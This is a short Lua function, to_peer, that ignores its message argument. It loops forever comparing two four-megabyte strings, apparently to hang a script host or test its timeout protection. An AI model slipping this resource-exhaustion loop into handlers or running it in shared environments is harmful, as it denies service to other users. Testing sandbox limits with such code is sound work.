function to_peer(msg)
  local a, b = ("\0"):rep(4000000), ("\0"):rep(4000000) .. "x"
  while true do local _ = a < b end
end
